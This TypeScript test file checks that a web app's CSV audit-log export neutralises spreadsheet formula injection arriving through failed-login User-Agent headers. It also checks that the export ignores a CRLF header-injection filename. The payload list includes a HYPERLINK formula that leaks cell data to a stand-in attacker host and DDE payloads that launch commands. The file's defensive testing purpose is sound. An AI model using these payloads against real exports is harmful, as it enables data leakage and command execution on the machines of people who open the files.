// Attack (held): formula injection into the audit export from outside. An
// anonymous client fails a login with a User-Agent that is a spreadsheet
// formula (=HYPERLINK leaking a neighbouring cell, @SUM, +, -, a DDE
// call); the record lands in the tenant's audit log, and an admin opens the
// CSV export in a spreadsheet. input-hardening.test.ts pins query answers;
// this pins the audit export: every such cell comes back quoted behind a
// leading ', and the attachment's file name is ours, not the caller's.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestApp, type TestApp } from '../support/test-app'

const AGENTS = ['=HYPERLINK("http://evil.example/?x="&A2,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd', '-2+3', '=cmd|\' /C calc\'!A0']

let t: TestApp
beforeAll(async () => { t = await createTestApp({ NEXATRON_RATE_LIMIT_PER_HOUR: '100000' }) })
afterAll(async () => { await t?.close() })

/** The cells of a CSV line, quotes undone (no line here holds a quoted line break). */
function cells(line: string): string[] {
  const out: string[] = []
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
    out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1])
    if (m[2] === '') break
  }
  return out
}

describe('attack: spreadsheet formulas in the audit export', () => {
  it('writes a hostile User-Agent of a failed login as text a spreadsheet will not run', async () => {
    const email = 'victim@example.com'
    expect((await t.request('POST', '/api/v1/users', { body: { email, password: 'right password 1', role: 'viewer' } })).status).toBe(201)
    for (const agent of AGENTS) {
      const res = await t.request('POST', '/api/v1/auth/login', { key: null, body: { email, password: 'wrong password 1' }, headers: { 'user-agent': agent } })
      expect(res.status).toBeGreaterThanOrEqual(400)
    }
    const res = await t.request('GET', '/api/v1/audit-log/export?format=csv&filename=x%22%0d%0aSet-Cookie:a=b')
    expect(res.status).toBe(200)
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-log-\d{4}-\d{2}-\d{2}\.csv"$/)
    const lines = (await res.text()).split('\r\n').filter(Boolean)
    const header = cells(lines[0])
    const agentAt = header.indexOf('user_agent')
    const written = lines.slice(1).map((l) => cells(l)[agentAt]).filter((v) => v && v !== '')
    for (const agent of AGENTS) expect(written).toContain(`'${agent}`)
    for (const line of lines.slice(1)) {
      for (const cell of cells(line)) expect(cell).not.toMatch(/^[\t\r]|^\s*[=+@-](?!\d+(\.\d+)?$)/)
    }
  })
})
